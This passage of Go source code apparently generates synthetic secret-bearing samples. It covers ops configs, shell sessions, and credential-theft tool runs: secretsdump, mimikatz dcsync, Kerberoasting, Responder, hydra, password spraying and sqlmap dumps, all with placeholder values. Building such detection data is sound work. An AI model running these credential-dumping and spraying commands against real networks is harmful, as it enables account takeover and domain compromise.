`, V{"a": g.opsHuman(), "b": g.apSHA512Crypt(), "c": g.hex(64)}, "/var/vmail/acme.io/dana")

	g.add("ops/sshpass-loop", `
$ for h in $(cat hosts.txt); do
>   sshpass -p '«a»' ssh -o StrictHostKeyChecking=no root@$h 'uptime; df -h /'
> done
$ SSHPASS='«b»' sshpass -e scp backup.tar.gz ops@10.0.9.14:/srv/incoming/
`, V{"a": g.opsHuman(), "b": g.opsHuman()}, "-o StrictHostKeyChecking=no")

	sk, spub := g.sshEd25519("ansible@ctl01")
	g.add("ops/ssh-private-key-cat", `
ansible@ctl01:~$ cat ~/.ssh/id_ed25519
«=b»
«a»
«=e»
ansible@ctl01:~$ cat ~/.ssh/id_ed25519.pub
«_p» ansible@ctl01
`, V{"=b": sk.begin, "a": sk.body, "=e": sk.end, "_p": spub})

	g.add("ops/journal-sudo-command-line", `
$ sudo journalctl _COMM=sudo --since today | tail -4
Jun 03 09:14:02 db02 sudo[48211]:     dana : TTY=pts/1 ; PWD=/home/dana ; USER=root ; COMMAND=/usr/bin/mysql -uroot -p«a» -e SHOW SLAVE STATUS\G
Jun 03 09:14:02 db02 sudo[48211]: pam_unix(sudo:session): session opened for user root(uid=0) by dana(uid=1001)
Jun 03 09:20:40 db02 sudo[48390]:     dana : TTY=pts/1 ; PWD=/home/dana ; USER=root ; COMMAND=/usr/bin/systemctl restart mysql
`, V{"a": g.opsHuman()}, "COMMAND=/usr/bin/systemctl restart mysql")

	g.add("ops/crontab-with-credentials", `
$ sudo crontab -l -u backup
# m h dom mon dow command
30 1 * * * /usr/bin/mysqldump -u backup -p'«a»' --all-databases --single-transaction | gzip > /srv/backup/mysql-$(date +\%F).sql.gz
0 3 * * 0 curl -fsS -u backup:«b» -T /srv/backup/weekly.tar.gz ftp://ftp.acme-partner.com/incoming/
*/5 * * * * /usr/local/bin/check_raid.sh >/dev/null 2>&1
`, V{"a": g.opsHuman(), "b": g.pwURL()}, "*/5 * * * * /usr/local/bin/check_raid.sh >/dev/null 2>&1")

	g.add("ops/systemd-unit-environment", `
$ systemctl cat acme-worker.service
# /etc/systemd/system/acme-worker.service
[Unit]
Description=Acme queue worker
After=network-online.target

[Service]
User=acme
Environment="DB_PASSWORD=«a»"
Environment=AMQP_URL=amqp://worker:«b»@mq01.acme.lan:5672/prod
ExecStart=/opt/acme/bin/worker --concurrency 8
Restart=on-failure
`, V{"a": g.opsGen(20), "b": g.pwURL()}, "ExecStart=/opt/acme/bin/worker --concurrency 8")

	g.add("ops/systemctl-show-environment", `
$ systemctl show restic-backup.service -p Environment
Environment=RESTIC_REPOSITORY=s3:https://s3.eu-central-1.wasabisys.com/acme-restic RESTIC_PASSWORD=«a» AWS_ACCESS_KEY_ID=«=ak» AWS_SECRET_ACCESS_KEY=«b»
`, V{"a": g.opsGen(32), "=ak": g.s(alUpNum, 20), "b": g.s(alAlnum, 40)}, "RESTIC_REPOSITORY=s3:https://s3.eu-central-1.wasabisys.com/acme-restic")

	g.add("ops/restic-env-file", `
# /etc/restic/env  (sourced by restic-backup.service)
export RESTIC_REPOSITORY="b2:acme-backups:/hosts/web01"
export RESTIC_PASSWORD="«a»"
export B2_ACCOUNT_ID="«=b2»"
export B2_ACCOUNT_KEY="«b»"
export RESTIC_CACHE_DIR=/var/cache/restic
`, V{"a": g.opsPSK(), "=b2": "005" + g.hex(22), "b": "K005" + g.s(alAlnum+"/+", 27)}, "export RESTIC_CACHE_DIR=/var/cache/restic")

	g.add("ops/borg-key-export-and-passphrase", `
$ export BORG_PASSPHRASE='«a»'
$ borg key export ssh://borg@backup01.acme.lan/./web01 /dev/stdout
BORG_KEY «b»
«c»
$ borg list ssh://borg@backup01.acme.lan/./web01 | tail -1
web01-2024-06-03T01:00:02            Mon, 2024-06-03 01:00:04 [«_id»]
`, V{"a": g.opsHuman() + " " + g.opsHuman(), "b": g.hex(64), "c": wrap(g.s(alB64, 600), 76) + "=", "_id": g.hex(64)}, "web01-2024-06-03T01:00:02")

	g.add("ops/duplicity-cron-script", `
#!/bin/sh
# /etc/cron.daily/duplicity-offsite
export PASSPHRASE='«a»'
export FTP_PASSWORD='«b»'
duplicity --full-if-older-than 1M /srv/data sftp://backup@offsite.acme-partner.net//backups/acme
unset PASSPHRASE FTP_PASSWORD
`, V{"a": g.opsPSK(), "b": g.opsHuman()}, "duplicity --full-if-older-than 1M")

	g.add("ops/bash-history-review", `
$ sudo cat /home/ex-employee/.bash_history | grep -nE 'pass|-p|curl -u'
212:mysql -h db01 -u reporting -p«a» reporting
388:curl -u admin:«b» http://jenkins.acme.lan:8080/job/deploy/build
401:export PGPASSWORD=«c»
407:psql -h db-primary.acme.internal -U billing_ro billing
`, V{"a": g.opsHuman(), "b": g.opsHuman(), "c": g.pwURL()}, "psql -h db-primary.acme.internal -U billing_ro billing")

	g.add("ops/nginx-upstream-basic-auth-header", `
location /legacy-api/ {
    proxy_pass http://10.0.7.20:8080/;
    proxy_set_header Authorization "Basic «a»";
    proxy_set_header Host $host;
}
`, V{"a": b64s("integration:" + g.opsGen(18))}, "proxy_pass http://10.0.7.20:8080/;")

	g.add("ops/openldap-slapd-rootpw", `
# slapd.conf
database    mdb
suffix      "dc=acme,dc=io"
rootdn      "cn=admin,dc=acme,dc=io"
rootpw      «a»
directory   /var/lib/ldap
$ sudo ldapmodify -Y EXTERNAL -H ldapi:/// <<'LDIF'
dn: olcDatabase={1}mdb,cn=config
replace: olcRootPW
olcRootPW: «b»
LDIF
`, V{"a": "{SSHA}" + g.b64(24), "b": g.opsHuman()}, `rootdn      "cn=admin,dc=acme,dc=io"`)

	g.add("ops/sssd-conf-obfuscated-password", `
[domain/acme.io]
id_provider = ldap
auth_provider = ldap
ldap_uri = ldaps://ldap01.acme.io
ldap_search_base = dc=acme,dc=io
ldap_default_bind_dn = uid=svc-sssd,ou=services,dc=acme,dc=io
ldap_default_authtok_type = obfuscated_password
ldap_default_authtok = «a»
cache_credentials = True
`, V{"a": "AAAQA" + g.s(alB64, 150) + "AAA="}, "ldap_default_authtok_type = obfuscated_password", "cache_credentials = True")

	g.add("ops/snmpd-conf-linux", `
# /etc/snmp/snmpd.conf
agentAddress udp:161
rocommunity «a» 10.10.0.0/24
syslocation "DC1, rack 12"
syscontact noc@acme.io
# /var/lib/snmp/snmpd.conf (before first start)
createUser librenms SHA "«b»" AES "«c»"
rouser librenms priv
`, V{"a": g.opsCommunity(), "b": g.opsGen(16), "c": g.opsGen(16)}, "syscontact noc@acme.io", "rouser librenms priv")

	g.add("ops/grub-password-pbkdf2", `
$ sudo cat /etc/grub.d/40_custom
#!/bin/sh
exec tail -n +3 $0
set superusers="root"
password_pbkdf2 root grub.pbkdf2.sha512.10000.«a»
`, V{"a": strings.ToUpper(g.hex(128)) + "." + strings.ToUpper(g.hex(128))}, `set superusers="root"`)

	g.add("ops/cryptsetup-passphrase-pipe", `
$ echo -n '«a»' | sudo cryptsetup luksOpen /dev/sdb1 backupdisk -d -
$ sudo mount /dev/mapper/backupdisk /mnt/backupdisk
$ sudo cryptsetup luksDump /dev/sdb1 | grep -E 'Version|Cipher'
Version:       	2
	cipher: aes-xts-plain64
`, V{"a": g.opsHuman() + " " + g.opsHuman()}, "cipher: aes-xts-plain64")

	g.add("ops/ansible-inventory-become-pass", `
# inventories/prod/hosts.ini
[db]
db01.acme.lan ansible_user=ops ansible_ssh_pass=«a» ansible_become_pass=«b»
db02.acme.lan ansible_user=ops ansible_ssh_pass=«a» ansible_become_pass=«b»

[legacy]
fax01.acme.lan ansible_user=root ansible_password=«c» ansible_port=2222
`, V{"a": g.opsHuman(), "b": g.opsHuman(), "c": g.opsHuman()}, "ansible_port=2222")

	g.add("ops/wpa-supplicant-conf", `
ctrl_interface=DIR=/var/run/wpa_supplicant GROUP=netdev
country=DE

network={
    ssid="Acme-Office"
    psk=«a»
}

network={
    ssid="Acme-Corp"
    key_mgmt=WPA-EAP
    eap=PEAP
    identity="dana@acme.io"
    password="«b»"
    phase2="auth=MSCHAPV2"
}
`, V{"a": g.hex(64), "b": g.opsHuman()}, `phase2="auth=MSCHAPV2"`, `ssid="Acme-Office"`)

	g.add("ops/hostapd-conf", `
interface=wlan0
driver=nl80211
ssid=Acme-Lab
hw_mode=g
channel=6
wpa=2
wpa_key_mgmt=WPA-PSK
wpa_passphrase=«a»
rsn_pairwise=CCMP
auth_server_addr=10.1.1.20
auth_server_shared_secret=«b»
`, V{"a": g.opsHuman(), "b": g.opsPSK()}, "rsn_pairwise=CCMP", "ssid=Acme-Lab")
}

// ---- out-of-band management, virtualization and backup platforms ----

func (g *G) opsServers() {
	g.add("ops/ipmitool-lanplus", `
$ ipmitool -I lanplus -H 10.0.5.21 -U ADMIN -P '«a»' chassis power status
Chassis Power is on
$ ipmitool -I lanplus -H 10.0.5.21 -U ADMIN -P '«a»' sel list | tail -2
 1a4 | 06/02/2024 | 22:41:07 | Power Supply PS2 Status | Power Supply AC lost | Asserted
 1a5 | 06/02/2024 | 22:43:51 | Power Supply PS2 Status | Power Supply AC lost | Deasserted
`, V{"a": g.opsHuman()}, "Chassis Power is on", "Power Supply AC lost")

	g.add("ops/racadm-idrac-change-default", `
$ racadm -r 10.0.5.22 -u root -p «=d» set iDRAC.Users.2.Password «a»
Security Alert: Certificate is invalid - Certificate is not signed by Trusted Third Party
Object value modified successfully
$ racadm -r 10.0.5.22 -u root -p '«a»' getsysinfo | grep -E 'Service Tag|Firmware Version'
Service Tag             = «_st»
Firmware Version        = 7.00.00.171
`, V{"=d": "calvin", "a": g.opsGen(16), "_st": g.s(alUpNum, 7)}, "Object value modified successfully", "Firmware Version        = 7.00.00.171")

	g.add("ops/ilo-hponcfg-ribcl-xml", `
$ cat add_ilo_user.xml
<RIBCL VERSION="2.0">
  <LOGIN USER_LOGIN="Administrator" PASSWORD="«a»">
    <USER_INFO MODE="write">
      <ADD_USER USER_NAME="Ops Monitor" USER_LOGIN="opsmon" PASSWORD="«b»">
        <ADMIN_PRIV value="N"/>
        <REMOTE_CONS_PRIV value="N"/>
        <VIRTUAL_MEDIA_PRIV value="N"/>
      </ADD_USER>
    </USER_INFO>
  </LOGIN>
</RIBCL>
$ sudo hponcfg -f add_ilo_user.xml
`, V{"a": g.s(alUpNum, 8), "b": g.opsGen(16)}, `<ADMIN_PRIV value="N"/>`)

	g.add("ops/redfish-curl-session", `
$ curl -sk -u root:«a» https://10.0.5.30/redfish/v1/Systems/System.Embedded.1 | jq '{PowerState, Model, SerialNumber}'
{
  "PowerState": "On",
  "Model": "PowerEdge R750",
  "SerialNumber": "«_sn»"
}
$ curl -sk -X POST https://10.0.5.31/redfish/v1/SessionService/Sessions -H 'Content-Type: application/json' \
    -d '{"UserName": "Administrator", "Password": "«b»"}' -D - -o /dev/null | grep -i x-auth-token
X-Auth-Token: «c»
`, V{"a": g.opsHuman(), "_sn": "CN" + g.s(alUpNum, 12), "b": g.s(alUpNum, 8), "c": g.hex(32)}, `"Model": "PowerEdge R750"`)

	g.add("ops/govc-environment", `
$ cat ~/.govc-prod
export GOVC_URL=https://vcsa01.acme.local/sdk
export GOVC_USERNAME=administrator@vsphere.local
export GOVC_PASSWORD='«a»'
export GOVC_INSECURE=1
export GOVC_DATACENTER=DC1
$ source ~/.govc-prod && govc ls /DC1/vm | head -3
/DC1/vm/web01
/DC1/vm/web02
/DC1/vm/db01
`, V{"a": g.opsGen(20)}, "export GOVC_DATACENTER=DC1", "/DC1/vm/db01")

	g.add("ops/powercli-connect-viserver", `
PS C:\> Set-PowerCLIConfiguration -InvalidCertificateAction Ignore -Confirm:$false | Out-Null
PS C:\> Connect-VIServer -Server vcsa01.acme.local -User administrator@vsphere.local -Password '«a»'

Name                           Port  User
----                           ----  ----
vcsa01.acme.local              443   VSPHERE.LOCAL\Administrator

PS C:\> Get-VMHost | Set-VMHostAccount -UserAccount root -Password '«b»'
`, V{"a": g.opsGen(20), "b": g.opsGen(18)}, `VSPHERE.LOCAL\Administrator`)

	g.add("ops/esxi-kickstart", `
# ks.cfg for ESXi 8 hosts
vmaccepteula
install --firstdisk --overwritevmfs
rootpw --iscrypted «a»
network --bootproto=static --ip=10.0.6.21 --netmask=255.255.255.0 --gateway=10.0.6.1 --hostname=esx21.acme.local --nameserver=10.0.0.53
reboot

%firstboot --interpreter=busybox
esxcli system account add -i svc-monitor -p '«b»' -c '«b»' -d "monitoring"
esxcli system permission set -i svc-monitor -r ReadOnly
`, V{"a": g.apSHA512Crypt(), "b": g.opsGen(16)}, "install --firstdisk --overwritevmfs", "--hostname=esx21.acme.local")

	g.add("ops/proxmox-pveum-token-add", `
root@pve01:~# pveum user token add monitoring@pve prometheus --privsep 0
┌──────────────┬──────────────────────────────────────┐
│ key          │ value                                │
╞══════════════╪══════════════════════════════════════╡
│ full-tokenid │ monitoring@pve!prometheus            │
├──────────────┼──────────────────────────────────────┤
│ info         │ {"privsep":"0"}                      │
├──────────────┼──────────────────────────────────────┤
│ value        │ «a» │
└──────────────┴──────────────────────────────────────┘
`, V{"a": g.uuid()}, "monitoring@pve!prometheus")

	g.add("ops/proxmox-api-ticket", `
$ curl -sk -d 'username=root@pam' --data-urlencode 'password=«a»' https://pve01.acme.lan:8006/api2/json/access/ticket | jq .data
{
  "username": "root@pam",
  "ticket": "PVE:root@pam:«=t»::«b»",
  "CSRFPreventionToken": "«=t»:«=c»",
  "cap": {"nodes": {"Sys.Audit": 1}}
}
`, V{"a": g.opsHuman(), "=t": g.s(alHexU, 8), "b": g.s(alB64, 342) + "==", "=c": g.s(alB64, 43)}, `"username": "root@pam"`)

	ceph := g.opsCeph()
	g.add("ops/virsh-ceph-secret", `
$ sudo cat /etc/ceph/ceph.client.libvirt.keyring
[client.libvirt]
	key = «a»
	caps mon = "profile rbd"
	caps osd = "profile rbd pool=vms"
$ virsh secret-define --file secret.xml
Secret «_u» created
$ virsh secret-set-value --secret «_u» --base64 «a»
Secret value set
`, V{"a": ceph, "_u": g.uuid()}, `caps osd = "profile rbd pool=vms"`)

	g.add("ops/libvirt-domain-vnc-passwd", `
$ virsh dumpxml --security-info win11-lab | grep -A2 graphics
    <graphics type='vnc' port='5901' autoport='no' listen='0.0.0.0' passwd='«a»'>
      <listen type='address' address='0.0.0.0'/>
    </graphics>
`, V{"a": g.an(8)}, "<listen type='address' address='0.0.0.0'/>")

	g.add("ops/nutanix-ncli-and-acli", `
nutanix@cvm$ ncli -s 10.0.6.10 -u admin -p '«a»' cluster info | grep -E 'Cluster Name|Cluster Version'
    Cluster Name              : NTNX-DC1
    Cluster Version           : 6.5.5.7
nutanix@cvm$ ncli user change-password current-password='«a»' new-password='«b»'
`, V{"a": g.opsHuman(), "b": g.opsGen(16)}, "Cluster Name              : NTNX-DC1")

	g.add("ops/apc-nmc-cli-users", `
apc>user -n device -pw «a»
E000: Success
apc>snmp -S enable -c1 «b» -a1 read
E000: Success
apc>ups -st
E000: Success
Status of UPS: On Line, No Alarms Present
`, V{"a": g.opsHuman(), "b": g.opsCommunity()}, "Status of UPS: On Line, No Alarms Present")

	g.add("ops/printer-default-password-changed", `
$ curl -sk -c jar.txt -b jar.txt -X POST https://prn-3f-east.acme.local/hp/device/SecuritySettings/Save \
    --data-urlencode 'OldPassword=' \
    --data-urlencode 'NewPassword=«a»' \
    --data-urlencode 'VerifyPassword=«a»'
HTTP/1.1 302 Found
Location: /hp/device/SecuritySettings/Index?jsAnchor=Password
`, V{"a": g.opsGen(14)}, "Location: /hp/device/SecuritySettings/Index?jsAnchor=Password")
}

// ---- security tooling output ----

// opsEmptyLM and opsEmptyNT are the LM and NT hashes of the empty
// password: public constants, not secrets.
const (
	opsEmptyLM = "aad3b435b51404eeaad3b435b51404ee"
	opsEmptyNT = "31d6cfe0d16ae931b73c59d7e0c089c0"
)

// opsTGS is a Kerberoast hash and its secret part (checksum and
// encrypted part; the user, realm and SPN are not secret).
func (g *G) opsTGS(user, realm, spn string) (string, string) {
	core := g.hex(32) + "$" + g.hex(2000+2*g.r.IntN(200))
	return "$krb5tgs$23$*" + user + "$" + realm + "$" + spn + "*$" + core, core
}

// opsASREP is an AS-REP roast hash and its secret part.
func (g *G) opsASREP(user, realm string) (string, string) {
	core := g.hex(32) + "$" + g.hex(440+2*g.r.IntN(40))
	return "$krb5asrep$23$" + user + "@" + realm + ":" + core, core
}

// opsNetNTLMv2 is a NetNTLMv2 hash and its secret part (NTProofStr and
// blob; the server challenge is not secret).
func (g *G) opsNetNTLMv2(user, domain string) (string, string) {
	core := strings.ToUpper(g.hex(32)) + ":" + "0101000000000000" + strings.ToUpper(g.hex(16)) + strings.ToUpper(g.hex(240))
	return user + "::" + domain + ":" + g.hex(16) + ":" + core, core
}

func (g *G) opsOffense() {
	g.add("ops/secretsdump-sam-lsa", `
$ impacket-secretsdump ACME/dana.admin@10.0.4.77 -hashes :«p»
Impacket v0.12.0 - Copyright Fortra, LLC and its affiliated companies

[*] Target system bootKey: 0x«bk»
[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)
Administrator:500:«_lm»:«a»:::
Guest:501:«_lm»:«_nt»:::
DefaultAccount:503:«_lm»:«_nt»:::
acmeadmin:1001:«_lm»:«b»:::
[*] Dumping cached domain logon information (domain/username:hash)
ACME.LOCAL/jdoe:$DCC2$10240#jdoe#«c»: (2024-06-01 08:12:44)
[*] Dumping LSA Secrets
[*] $MACHINE.ACC 
ACME\WS-0177$:aes256-cts-hmac-sha1-96:«d»
ACME\WS-0177$:plain_password_hex:«e»
[*] DefaultPassword
ACME\kiosk:«f»
[*] DPAPI_SYSTEM
dpapi_machinekey:0x«g»
dpapi_userkey:0x«h»
[*] NL$KM 
NL$KM:«i»
`, V{"p": g.hex(32), "bk": g.hex(32), "_lm": opsEmptyLM, "a": g.hex(32), "_nt": opsEmptyNT, "b": g.hex(32), "c": g.hex(32),
		"d": g.hex(64), "e": g.hex(240), "f": g.opsHuman(), "g": g.hex(40), "h": g.hex(40), "i": g.hex(128)},
		"[*] Dumping local SAM hashes (uid:rid:lmhash:nthash)")

	g.add("ops/secretsdump-ntds-just-dc", `
$ impacket-secretsdump -just-dc-ntlm -just-dc-user krbtgt 'acme.local/svc_backup:«p»@10.0.2.10'
[*] Dumping Domain Credentials (domain\uid:rid:lmhash:nthash)
[*] Using the DRSUAPI method to get NTDS.DIT secrets
krbtgt:502:«_lm»:«a»:::
[*] Kerberos keys grabbed
krbtgt:aes256-cts-hmac-sha1-96:«b»
krbtgt:aes128-cts-hmac-sha1-96:«c»
krbtgt:des-cbc-md5:«d»
[*] Cleaning up...
`, V{"p": g.opsHuman(), "_lm": opsEmptyLM, "a": g.hex(32), "b": g.hex(64), "c": g.hex(32), "d": g.hex(16)},
		"[*] Using the DRSUAPI method to get NTDS.DIT secrets")

	h1, c1 := g.opsNetNTLMv2("jdoe", "ACME")
	h2, c2 := g.opsNetNTLMv2("svc_print", "ACME")
	g.add("ops/responder-netntlmv2", `
[+] Listening for events...
[*] [LLMNR]  Poisoned answer sent to 10.0.4.57 for name fileserv
[SMB] NTLMv2-SSP Client   : 10.0.4.57
[SMB] NTLMv2-SSP Username : ACME\jdoe
[SMB] NTLMv2-SSP Hash     : «=h1a»«a»
[*] [NBT-NS] Poisoned answer sent to 10.0.4.81 for name PRINTSRV (service: File Server)
[SMB] NTLMv2-SSP Client   : 10.0.4.81
[SMB] NTLMv2-SSP Username : ACME\svc_print
[SMB] NTLMv2-SSP Hash     : «=h2a»«b»
`, V{"=h1a": strings.TrimSuffix(h1, c1), "a": c1, "=h2a": strings.TrimSuffix(h2, c2), "b": c2}, "[SMB] NTLMv2-SSP Username : ACME\\jdoe")

	t1, tc1 := g.opsTGS("svc_sql", "ACME.LOCAL", "acme.local/svc_sql")
	g.add("ops/getuserspns-kerberoast", `
$ impacket-GetUserSPNs acme.local/jdoe:'«p»' -dc-ip 10.0.2.10 -request -outputfile kerberoast.txt
ServicePrincipalName                 Name     MemberOf                                         PasswordLastSet             LastLogon
-----------------------------------  -------  -----------------------------------------------  --------------------------  --------------------------
MSSQLSvc/sql01.acme.local:1433       svc_sql  CN=SQL-Admins,OU=Groups,DC=acme,DC=local         2019-04-11 10:22:31.120184  2024-06-02 22:01:47.411922

«=pre»«a»
`, V{"p": g.opsHuman(), "=pre": strings.TrimSuffix(t1, tc1), "a": tc1}, "MSSQLSvc/sql01.acme.local:1433")

	a1, ac1 := g.opsASREP("legacy_scan", "ACME.LOCAL")
	g.add("ops/getnpusers-asrep-roast", `
$ impacket-GetNPUsers acme.local/ -usersfile users.txt -no-pass -dc-ip 10.0.2.10 -format hashcat
[-] User jdoe doesn't have UF_DONT_REQUIRE_PREAUTH set
«=pre»«a»
[-] Kerberos SessionError: KDC_ERR_C_PRINCIPAL_UNKNOWN(Client not found in Kerberos database)
`, V{"=pre": strings.TrimSuffix(a1, ac1), "a": ac1}, "[-] User jdoe doesn't have UF_DONT_REQUIRE_PREAUTH set")

	g.add("ops/hashcat-potfile", `
$ cat ~/.local/share/hashcat/hashcat.potfile
«a»:«b»
«c»:«d»
«e»:«f»
`, V{"a": g.hex(32), "b": g.opsSeason(), "c": g.hex(32), "d": g.opsHuman(), "e": g.hex(32), "f": g.pick(pwWords...) + g.s(alDigit, 2)})

	t2, tc2 := g.opsTGS("svc_sql", "ACME.LOCAL", "MSSQLSvc/sql01.acme.local:1433")
	tgsPlain := g.opsHuman()
	g.add("ops/hashcat-show-kerberoast", `
$ hashcat -m 13100 kerberoast.txt /usr/share/wordlists/rockyou.txt -r rules/best64.rule --quiet
$ hashcat -m 13100 kerberoast.txt --show
«=pre»«a»:«b»
`, V{"=pre": strings.TrimSuffix(t2, tc2), "a": tc2, "b": tgsPlain}, "-r rules/best64.rule")

	g.add("ops/john-show-ntlm", `
$ john --format=NT --wordlist=rockyou.txt ntds.hashes
Loaded 1841 password hashes with no different salts (NT [MD4 256/256 AVX2 8x3])
$ john --show --format=NT ntds.hashes | head -4
bnovak:«a»:1188:«_lm»:«b»:::
cwright:«c»:1204:«_lm»:«d»:::
svc_kiosk:«e»:1310:«_lm»:«f»:::
3 password hashes cracked, 1838 left
`, V{"a": g.opsSeason(), "_lm": opsEmptyLM, "b": g.hex(32), "c": g.opsHuman(), "d": g.hex(32), "e": g.opsHuman(), "f": g.hex(32)},
		"3 password hashes cracked, 1838 left")

	sid := g.opsSID()
	g.add("ops/mimikatz-logonpasswords", `
mimikatz # sekurlsa::logonpasswords

Authentication Id : 0 ; 4471928 (00000000:00443c78)
Session           : Interactive from 2
User Name         : dana.admin
Domain            : ACME
Logon Server      : DC01
Logon Time        : 6/3/2024 9:14:02 AM
SID               : «_sid»-1107
	msv :
	 [00000003] Primary
	 * Username : dana.admin
	 * Domain   : ACME
	 * NTLM     : «a»
	 * SHA1     : «b»
	 * DPAPI    : «=dp»
	wdigest :
	 * Username : dana.admin
	 * Domain   : ACME
	 * Password : (null)
	kerberos :
	 * Username : dana.admin
	 * Domain   : ACME.LOCAL
	 * Password : «c»
	credman :
	 [00000000]
	 * Username : ACME\svc_sqlbackup
	 * Domain   : sql01.acme.local
	 * Password : «d»
`, V{"_sid": sid, "a": g.hex(32), "b": g.hex(40), "=dp": g.hex(32), "c": g.opsHuman(), "d": g.opsGen(18)}, "Logon Server      : DC01")

	g.add("ops/mimikatz-dcsync", `
mimikatz # lsadump::dcsync /domain:acme.local /user:krbtgt
[DC] 'acme.local' will be the domain
[DC] 'DC01.acme.local' will be the DC server
[DC] 'krbtgt' will be the user account

Object RDN           : krbtgt

** SAM ACCOUNT **

SAM Username         : krbtgt
Account Type         : 30000000 ( USER_OBJECT )
Object Security ID   : «_sid»-502
Object Relative ID   : 502

Credentials:
  Hash NTLM: «a»
    ntlm- 0: «a»
    lm  - 0: «b»

* Primary:Kerberos-Newer-Keys *
    Default Salt : ACME.LOCALkrbtgt
    Default Iterations : 4096
    Credentials
      aes256_hmac       (4096) : «c»
      aes128_hmac       (4096) : «d»
`, V{"_sid": sid, "a": g.hex(32), "b": g.hex(32), "c": g.hex(64), "d": g.hex(32)}, "Account Type         : 30000000 ( USER_OBJECT )")

	g.add("ops/hydra-ssh-success", `
$ hydra -L users.txt -P top1000.txt -t 4 ssh://10.0.3.14
Hydra v9.5 (c) 2023 by van Hauser/THC & David Maciejak - Please do not use in military or secret service organizations, or for illegal purposes.
[DATA] max 4 tasks per 1 server, overall 4 tasks, 12000 login tries (l:12/p:1000), ~3000 tries per task
[DATA] attacking ssh://10.0.3.14:22/
[22][ssh] host: 10.0.3.14   login: deploy   password: «a»
[22][ssh] host: 10.0.3.14   login: pi   password: «b»
1 of 1 target successfully completed, 2 valid passwords found
`, V{"a": g.opsHuman(), "b": g.pick(pwWords...) + g.s(alDigit, 3)}, "[DATA] attacking ssh://10.0.3.14:22/")

	g.add("ops/netexec-smb-spray", `
$ nxc smb 10.0.2.0/24 -u users.txt -p '«a»' --continue-on-success
SMB         10.0.2.10       445    DC01             [*] Windows Server 2022 Build 20348 x64 (name:DC01) (domain:acme.local) (signing:True) (SMBv1:False)
SMB         10.0.2.10       445    DC01             [-] acme.local\akim:«a» STATUS_LOGON_FAILURE
SMB         10.0.2.10       445    DC01             [+] acme.local\bnovak:«a»
SMB         10.0.2.10       445    DC01             [+] acme.local\svc_backup:«a» (Pwn3d!)
`, V{"a": g.opsSeason()}, "(domain:acme.local) (signing:True) (SMBv1:False)")

	g.add("ops/netexec-lsa-dump", `
$ nxc smb 10.0.4.77 -u dana.admin -H «p» --lsa
SMB         10.0.4.77       445    WS-0177          [+] ACME\dana.admin:«p» (Pwn3d!)
SMB         10.0.4.77       445    WS-0177          [+] Dumping LSA secrets
SMB         10.0.4.77       445    WS-0177          ACME.LOCAL/jdoe:$DCC2$10240#jdoe#«a»: (2024-06-01 08:12:44)
SMB         10.0.4.77       445    WS-0177          ACME\svc_sqlbackup:«b»
SMB         10.0.4.77       445    WS-0177          [+] Dumped 2 LSA secrets to /root/.nxc/logs/WS-0177_10.0.4.77.secrets
`, V{"p": g.hex(32), "a": g.hex(32), "b": g.opsGen(18)}, "/root/.nxc/logs/WS-0177_10.0.4.77.secrets")

	g.add("ops/sqlmap-dump-users", `
$ sqlmap -u 'http://shop.lab.acme.io/item.php?id=3' -D shop -T users --dump --batch
Database: shop
Table: users
[3 entries]
+----+-------------------+---------------------------------------------+
| id | email             | password                                    |
+----+-------------------+---------------------------------------------+
| 1  | admin@shop.local  | «a» («b»)  |
| 2  | dana@shop.local   | «c» («d»)  |
| 3  | test@shop.local   | «e»            |
+----+-------------------+---------------------------------------------+
`, V{"a": g.hex(32), "b": g.pick(pwWords...) + g.s(alDigit, 3), "c": g.hex(32), "d": g.opsSeason(), "e": g.hex(32)}, "| 1  | admin@shop.local  |")

	g.add("ops/burp-intercepted-login", `
POST /api/v2/auth/login HTTP/2
Host: portal.acme-client.com
Cookie: AWSALB=«=lb»; session=«a»
Content-Type: application/json
User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0
Content-Length: 61

{"username":"pentest.user01","password":"«b»","remember":true}
`, V{"=lb": g.s(alB64, 64), "a": g.b64u(43), "b": g.opsGen(16)}, "Host: portal.acme-client.com", `"username":"pentest.user01"`)

	g.add("ops/nmap-nse-brute", `
$ nmap -p 22,161,3306 --script ssh-brute,snmp-brute,mysql-brute 10.0.3.0/28
Nmap scan report for 10.0.3.5
PORT     STATE SERVICE
22/tcp   open  ssh
| ssh-brute:
|   Accounts:
|     admin:«a» - Valid credentials
|_  Statistics: Performed 254 guesses in 61 seconds, average tps: 4.2
161/udp  open  snmp
| snmp-brute:
|_  «b» - Valid credentials
3306/tcp open  mysql
| mysql-brute:
|   Accounts:
|     root:«c» - Valid credentials
|_  Statistics: Performed 4012 guesses in 20 seconds, average tps: 200.6
`, V{"a": g.opsHuman(), "b": g.opsCommunity(), "c": g.opsHuman()}, "Nmap scan report for 10.0.3.5")

	g.add("ops/kerbrute-passwordspray", `
$ kerbrute passwordspray -d acme.local --dc 10.0.2.10 users.txt '«a»'
    __             __               __
   / /_____  _____/ /_  _______  __/ /____
  / //_/ _ \/ ___/ __ \/ ___/ / / / __/ _ \
 / ,< /  __/ /  / /_/ / /  / /_/ / /_/  __/
/_/|_|\___/_/  /_.___/_/   \__,_/\__/\___/

2024/06/03 10:02:11 >  Using KDC(s):
2024/06/03 10:02:11 >  	10.0.2.10:88
2024/06/03 10:02:14 >  [+] VALID LOGIN:	cwright@acme.local:«a»
2024/06/03 10:02:19 >  Done! Tested 1840 logins (1 successes) in 7.944 seconds
`, V{"a": g.opsSeason()}, "Done! Tested 1840 logins (1 successes)")

	g.add("ops/msolspray-success", `
PS C:\Tools> Invoke-MSOLSpray -UserList .\o365-users.txt -Password «a»
[*] There are 412 total users to spray.
[*] Now spraying Microsoft Online.
[*] Current date and time: 06/03/2024 10:15:02
[*] SUCCESS! akim@acme.com : «a»
[*] WARNING! The user bnovak@acme.com has MFA enabled
`, V{"a": g.opsSeason()}, "[*] There are 412 total users to spray.")

	jwtKey := g.pick(pwWords...) + g.s(alDigit, 2)
	jwtTok := g.jwt("HS256", fmt.Sprintf(`{"sub":"1042","role":"user","iat":%d}`, g.vnIat()))
	g.add("ops/jwt-tool-crack", `
$ python3 jwt_tool.py «a» -C -d /usr/share/wordlists/jwt.secrets.list

        \   \        \         \          \                    \
   \__   |   |  \     |\__    __| \__    __|                    |
         |   |   \    |      |          |       \         \     |
         |        \   |      |          |    __  \     __  \    |
  \      |      _     |      |          |   |     |   |     |   |
   |     |     / \    |      |          |   |     |   |     |   |
\        |    /   \   |      |          |\        |\        |   |
 \______/ \__/     \__|   \__|      \__| \______/  \______/ \__|
 Version 2.2.7                \______|             @ticarpi

